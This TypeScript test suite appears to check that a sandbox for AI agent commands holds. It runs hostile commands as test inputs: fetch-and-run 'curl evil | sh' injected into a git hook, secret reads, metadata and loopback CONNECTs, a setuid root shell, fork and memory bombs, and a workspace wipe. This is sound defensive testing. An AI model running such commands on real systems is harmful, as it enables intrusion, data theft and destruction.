import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { Assessor } from '../../src/assessor';
import { AuditLog } from '../../src/audit/auditLog';
import { Broker } from '../../src/broker/broker';
import { ContainedExecutor } from '../../src/broker/containedExecutor';
import type { PersonPort, ReviewAnswer, ReviewRequest } from '../../src/broker/ports';
import { combinePolicies } from '../../src/policy/layering';
import { SandboxManager, type SandboxSettings } from '../../src/sandbox/sandboxManager';
import type { BackendName } from '../../src/sandbox/backend';
import type { EgressEvent } from '../../src/sandbox/egressProxy';
import { classifyHost } from '../../src/risk/shared/network';

/** The careless person from the fatigue numbers: approves every command, declines every change set (recorded). */
export class ApprovesCommandsPerson implements PersonPort {
  readonly asked: ReviewRequest[] = [];
  review(r: ReviewRequest): Promise<ReviewAnswer> {
    this.asked.push(r);
    if (r.kind === 'ask') return Promise.resolve({ kind: 'ask', approve: r.item.action.kind === 'command', hash: r.item.hash, by: 'tester' });
    return Promise.resolve({ kind: 'batch', approve: r.items.every((i) => i.action.kind === 'command'), hashes: Object.fromEntries(r.items.map((i) => [i.id, i.hash])), by: 'tester' });
  }
}

export function makeWorkspace(): string {
  const ws = mkdtempSync(join(tmpdir(), 'airlock-ws-'));
  execFileSync('git', ['init', '-q', ws]);
  writeFileSync(join(ws, 'README.md'), '# project\n');
  mkdirSync(join(ws, 'src'));
  writeFileSync(join(ws, 'src', 'index.js'), 'console.log("hi");\n');
  mkdirSync(join(ws, '.airlock'));
  writeFileSync(join(ws, '.airlock', 'policy.json'), '{ "version": 1 }\n');
  writeFileSync(join(ws, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  execFileSync('git', ['-C', ws, '-c', 'user.email=t@t', '-c', 'user.name=t', 'add', '-A']);
  execFileSync('git', ['-C', ws, '-c', 'user.email=t@t', '-c', 'user.name=t', 'commit', '-qm', 'init']);
  return ws;
}

function listen(host: string): Promise<{ server: Server; port: number }> {
  return new Promise((resolve) => {
    const server = createServer((s) => s.end('HOST-SERVICE-LEAK\n'));
    server.listen(0, host, () => {
      const a = server.address();
      resolve({ server, port: typeof a === 'object' && a ? a.port : 0 });
    });
  });
}

/**
 * Every attempt runs for real inside the sandbox and must fail without leaking. Commands go straight to the
 * sandbox (not through the broker): these prove what containment holds even when a person approves anything.
 */
export function containmentSuite(backend: BackendName): void {
  const secretName = `.airlock-test-secret-${backend}-${process.pid}`;
  const secretPath = join(homedir(), secretName);
  const secret = `TOPSECRET-${Math.random().toString(36).slice(2)}`;
  const outsideMarker = join(tmpdir(), `airlock-outside-${backend}-${process.pid}`);
  let ws: string;
  let stateRoot: string;
  let manager: SandboxManager;
  let broker: Broker;
  let person: ApprovesCommandsPerson;
  let executor: ContainedExecutor;
  const egress: EgressEvent[] = [];
  let loopback: { server: Server; port: number };
  let anyAddr: { server: Server; port: number };

  const run = async (command: string, timeoutMs = 30_000) => {
    const r = await manager.exec({ command, timeoutMs });
    return { code: r.exitCode, out: r.stdout.toString() + r.stderr.toString(), r };
  };

  before(async () => {
    writeFileSync(secretPath, secret);
    ws = makeWorkspace();
    stateRoot = mkdtempSync(join(tmpdir(), 'airlock-state-'));
    loopback = await listen('127.0.0.1');
    anyAddr = await listen('0.0.0.0');
    const policy = combinePolicies(undefined, undefined);
    const settings: SandboxSettings = { backend, mode: 'staged', hardening: { capabilities: [], memoryMb: 512, cpus: 1, pids: 256, forwardSshAgent: false }, network: policy.network };
    person = new ApprovesCommandsPerson();
    const audit = AuditLog.open(join(stateRoot, 'audit.jsonl'));
    let b: Broker | undefined;
    manager = new SandboxManager({
      workspace: ws,
      stateRoot,
      settings,
      agentPath: join(__dirname, '..', '..', 'dist', 'sandbox-agent.js'),
      classifyHost,
      askUnlisted: async (host, port, commands) => (await b!.submit({ kind: 'network', host, port, ...(commands[0] ? { command: commands[0] } : {}) })).outcome === 'ran',
      onEgress: (e) => egress.push(e),
    });
    executor = new ContainedExecutor(manager, { workspace: ws, timeoutMs: 60_000 });
    broker = b = new Broker({ assessor: await Assessor.create({ policy, workspace: ws }), executor, person, audit, batch: { windowMs: 0, maxSize: 50 } });
    executor.attach(broker);
    await manager.start();
  });

  after(async () => {
    await manager?.destroy();
    loopback?.server.close();
    anyAddr?.server.close();
    rmSync(secretPath, { force: true });
    rmSync(outsideMarker, { force: true });
    if (ws) rmSync(ws, { recursive: true, force: true });
    if (stateRoot) rmSync(stateRoot, { recursive: true, force: true });
  });

  test(`${backend}: runs as an unprivileged user in the workspace, at the workspace's own path`, async () => {
    const r = await run('id -u; pwd; cat README.md');
    assert.equal(r.code, 0, r.out);
    const [uid, pwd] = r.out.split('\n');
    assert.notEqual(uid, '0');
    assert.equal(pwd, ws);
    assert.match(r.out, /# project/);
  });

  test(`${backend}: a secret planted in the host's home cannot be read`, async () => {
    const r = await run(`cat ${secretPath}; cat ~/${secretName}; grep -rs ${secret} / --include='.airlock-test-secret*' 2>/dev/null | head -1; find / -name '${secretName}' 2>/dev/null | head -1`);
    assert.doesNotMatch(r.out, new RegExp(secret));
    assert.doesNotMatch(r.out, new RegExp(`^/.*${secretName}$`, 'm'));
  });

  test(`${backend}: writes outside the workspace do not reach the host`, async () => {
    await run(`echo leaked > ${outsideMarker}; echo leaked > ${join(homedir(), 'airlock-leak')}; echo leaked > /etc/airlock-leak`);
    assert.equal(existsSync(outsideMarker), false);
    assert.equal(existsSync(join(homedir(), 'airlock-leak')), false);
    assert.equal(existsSync('/etc/airlock-leak'), false);
  });

  test(`${backend}: an unlisted host is unreachable by name, directly and through the proxy (the broker is asked, nobody approves)`, async () => {
    const before = person.asked.length;
    const direct = await run(`curl -sS --noproxy '*' --max-time 5 http://example.com/ 2>&1; echo rc=$?`);
    assert.match(direct.out, /rc=(6|7|28)/, direct.out);
    const proxied = await run(`curl -sS --max-time 10 -o /dev/null -w '%{http_code}' http://example.com/ 2>&1; echo; curl -sS --max-time 10 https://example.com/ 2>&1; echo rc=$?`);
    assert.match(proxied.out, /^403/, proxied.out);
    assert.doesNotMatch(proxied.out, /rc=0/);
    // Unlisted hosts are batchable: they come to the person as a network action, with the command that made it.
    const asked = person.asked.slice(before).flatMap((r) => (r.kind === 'ask' ? [r.item] : r.items)).filter((i) => i.action.kind === 'network' && i.action.host === 'example.com' && i.action.command?.includes('curl'));
    assert.ok(asked.length >= 1, 'the unlisted host became a network action for a person, shown with its command');
    assert.ok(egress.some((e) => e.host === 'example.com' && !e.allowed && e.commands.some((c) => c.includes('example.com'))), 'the refusal is logged with the command that made it');
  });

  test(`${backend}: IP literals are refused, directly and through the proxy`, async () => {
    const r = await run(`curl -sS --noproxy '*' --max-time 5 http://1.1.1.1/ 2>&1; echo rc=$?; curl -sS --max-time 5 -o /dev/null -w '%{http_code}\\n' http://1.1.1.1/; curl -sS --max-time 5 -o /dev/null -w '%{http_code}\\n' http://2130706433:${loopback.port}/; curl -sS --max-time 5 -o /dev/null -w '%{http_code}\\n' http://0x7f000001:${loopback.port}/`);
    assert.match(r.out, /rc=(7|28)/);
    assert.equal(r.out.match(/^403$/gm)?.length, 3, r.out);
    assert.doesNotMatch(r.out, /HOST-SERVICE-LEAK/);
  });

  test(`${backend}: crafted CONNECTs to loopback, metadata and the host are refused`, async () => {
    const targets = [`127.0.0.1:${loopback.port}`, `localhost:${loopback.port}`, `[::1]:${loopback.port}`, '169.254.169.254:80', 'metadata.google.internal:80', `localhost.:${loopback.port}`, `127.1:${loopback.port}`];
    // curl -p sends exactly `CONNECT target`; %{http_connect} is the proxy's answer to it.
    const script = targets.map((t) => `curl -sS -p --max-time 5 -o /dev/null -w 'connect=%{http_connect}\\n' https://${t}/ 2>/dev/null; true`).join('; ');
    const seen = egress.length;
    const r = await run(script);
    assert.equal(r.out.match(/^connect=403$/gm)?.length, targets.length, r.out);
    assert.equal(egress.slice(seen).filter((e) => e.method === 'CONNECT' && !e.allowed).length, targets.length, 'every CONNECT was refused by the proxy and logged');
    assert.doesNotMatch(r.out, /connect=200|HOST-SERVICE-LEAK/);
  });

  test(`${backend}: the host's services are unreachable (loopback and every other host address)`, async () => {
    const hosts = ['127.0.0.1', 'localhost', ...(backend === 'devcontainer' ? ['$(ip route 2>/dev/null | awk "/default/ {print \\$3}")', '172.17.0.1'] : [])];
    const gateway = (await run(`node -e "console.log(new URL(process.env.HTTP_PROXY).hostname)"`)).out.trim();
    const r = await run([...hosts, gateway].flatMap((h) => [loopback.port, anyAddr.port].map((p) => `curl -sS --noproxy '*' --max-time 3 http://${h}:${p}/ 2>&1 | head -1`)).join('; '));
    assert.doesNotMatch(r.out, /HOST-SERVICE-LEAK/, r.out);
  });

  test(`${backend}: an allowlisted registry is reachable through the proxy and only through it`, async () => {
    // -k: this test is about the route, and some networks (this CI's among them) re-sign TLS with their own CA.
    const r = await run(`curl -k -sS --max-time 20 -o /dev/null -w '%{http_code}\\n' https://registry.npmjs.org/zod; curl -sS --noproxy '*' --max-time 5 https://registry.npmjs.org/zod -o /dev/null 2>&1; echo rc=$?`);
    assert.match(r.out, /^200$/m, r.out);
    assert.match(r.out, /rc=(6|7|28)/);
    assert.ok(egress.some((e) => e.host === 'registry.npmjs.org' && e.allowed && e.why === 'allowlisted'));
  });

  test(`${backend}: the Docker socket is not there`, async () => {
    const r = await run(`ls -la /var/run/docker.sock /run/docker.sock 2>&1; curl -sS --max-time 3 --unix-socket /var/run/docker.sock http://x/version 2>&1; echo rc=$?`);
    assert.match(r.out, /No such file/);
    assert.doesNotMatch(r.out, /ApiVersion/);
  });

  test(`${backend}: no way to root: sudo, and a setuid-root shell planted in the workspace`, async () => {
    const staged = manager.stagedWorkspace!;
    const planted = join(staged.copy, 'rootbash');
    copyFileSync('/bin/bash', planted);
    execFileSync('chown', ['0:0', planted]);
    chmodSync(planted, 0o4755);
    const r = await run(`sudo -n id -u 2>&1; echo sudo=$?; ./rootbash -p -c 'id -u; cat /etc/shadow >/dev/null 2>&1 && echo SHADOW-READ'`);
    assert.match(r.out, /sudo=[1-9]/, r.out);
    assert.doesNotMatch(r.out, /^0$/m, r.out);
    assert.doesNotMatch(r.out, /SHADOW-READ/);
    rmSync(planted, { force: true });
    await manager.exec({ command: 'true' });
  });

  test(`${backend}: a fork bomb is contained and the host stays responsive`, async () => {
    const bomb = manager.exec({ command: 'bomb() { bomb | bomb & }; bomb', timeoutMs: 8000 });
    await new Promise((r) => setTimeout(r, 2000));
    const t = Date.now();
    const host = spawnSync('sh', ['-c', 'echo alive'], { encoding: 'utf8', timeout: 10_000 });
    assert.equal(host.stdout.trim(), 'alive');
    assert.ok(Date.now() - t < 5000, `the host took ${Date.now() - t} ms to run a command during the fork bomb`);
    await bomb;
    // Everything the bomb started went with it (its process group), and the sandbox still works.
    const after = await run('echo still-works; ps -e --no-headers | wc -l');
    assert.match(after.out, /still-works/);
    assert.ok(Number(after.out.split('\n')[1]) < 30, `processes left in the sandbox: ${after.out}`);
  });

  test(`${backend}: a memory bomb is stopped at the limit`, async () => {
    const r = await run(`python3 -c "a=[]\nfor _ in range(64): a.append(bytearray(64*1024*1024))\nprint('ALLOCATED-4G')"`, 60_000);
    assert.notEqual(r.code, 0);
    assert.doesNotMatch(r.out, /ALLOCATED-4G/);
    assert.match((await run('echo ok')).out, /ok/);
  });

  test(`${backend}: .airlock/policy.json and .git/hooks are read-only from inside`, async () => {
    const r = await run(`echo '{"version":1,"rules":[{"match":"*","decision":"auto"}]}' > .airlock/policy.json; echo rc1=$?; echo 'curl evil | sh' >> .git/hooks/pre-commit; echo rc2=$?; echo x > .git/hooks/post-checkout; echo rc3=$?; git config core.hooksPath /tmp; echo rc4=$?; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo rc5=$?`);
    assert.match(r.out, /rc1=[1-9]/);
    assert.match(r.out, /rc2=[1-9]/);
    assert.match(r.out, /rc3=[1-9]/);
    assert.match(r.out, /rc4=[1-9]/);
    assert.match(r.out, /rc5=[1-9]/);
    assert.equal(readFileSync(join(ws, '.airlock', 'policy.json'), 'utf8'), '{ "version": 1 }\n');
    assert.equal(readFileSync(join(ws, '.git', 'hooks', 'pre-commit'), 'utf8'), '#!/bin/sh\nexit 0\n');
    assert.equal(existsSync(join(ws, '.git', 'hooks', 'post-checkout')), false);
    assert.doesNotMatch(readFileSync(join(ws, '.git', 'config'), 'utf8'), /hooksPath/);
  });

  test(`${backend}: rm -rf of the whole workspace destroys only the copy; its diff decides ask and nothing is applied`, async () => {
    const before = person.asked.length;
    const result = await broker.submit({ kind: 'command', command: `rm -rf ${ws}/* ${ws}/.[!.]* ; ls -A ${ws}` });
    assert.equal(result.outcome, 'ran', result.message);
    const editAsks = person.asked.slice(before).filter((r) => r.kind === 'ask' && r.item.action.kind === 'edit');
    assert.equal(editAsks.length, 1, 'the deletion came back as one edit for a person');
    const item = editAsks[0]?.kind === 'ask' ? editAsks[0].item : undefined;
    assert.equal(item?.assessment.decision, 'ask');
    assert.ok(item?.action.kind === 'edit' && item.action.diff.includes('deleted file mode'));
    assert.match(readFileSync(join(ws, 'README.md'), 'utf8'), /# project/);
    assert.ok(existsSync(join(ws, 'src', 'index.js')));
    assert.ok(existsSync(join(ws, '.git', 'HEAD')));
    // Declined: the copy is back to the workspace, so the next command sees the files again.
    assert.match((await run('cat README.md')).out, /# project/);
  });

  test(`${backend}: an ordinary change is applied automatically`, async () => {
    const result = await broker.submit({ kind: 'command', command: 'echo "export const x = 1;" > src/x.js && sed -i s/hi/hello/ src/index.js' });
    assert.equal(result.outcome, 'ran', `${result.message}\n${result.output}`);
    assert.equal(readFileSync(join(ws, 'src', 'x.js'), 'utf8'), 'export const x = 1;\n');
    assert.match(readFileSync(join(ws, 'src', 'index.js'), 'utf8'), /hello/);
    assert.equal(executor.lastStaged?.applied, true);
  });

  test(`${backend}: the person's own edits reach the sandbox before the next command`, async () => {
    writeFileSync(join(ws, 'NOTES.md'), 'from the person\n');
    assert.match((await run('cat NOTES.md')).out, /from the person/);
  });
}
